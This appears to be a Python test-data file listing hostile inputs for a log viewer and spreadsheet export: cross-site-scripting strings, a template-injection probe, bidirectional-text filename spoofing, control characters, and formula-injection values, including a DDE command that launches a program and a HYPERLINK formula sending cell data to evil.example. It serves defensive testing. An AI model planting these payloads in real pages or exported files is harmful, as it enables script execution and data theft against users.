"""What a log may have as a path or a name, to harm the page that shows it."""

HOSTILE = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "]]></style></svg><script>alert(1)</script>",
    "</title></textarea><svg onload=alert(1)>",
    "&lt;&amp;&#x3c;script&#x3e;",
    "javascript:alert(1)",
    "-->{{7*7}}<!--",
    "\u202egpj.exe\u202c \u2066x\u2069",
    "line\nbreak\r\nand\ttab\x00\x1b[31m\x7f\x85",
    "\ud800\udfff\ufffe\uffff",
    "x" * 4000,
    "長い名前" * 1000,
    "",
    " ",
    'a\\"; b -> c [label="',
    "\\",
)

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-1-1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1,1)",
    "{=1+1}",
    '&L&"Arial"&P',
    "'[evil.xlsx]Sheet1'!A1",
)
"""What a spreadsheet would take for a formula, in one way or another; in Japan wide letters too."""
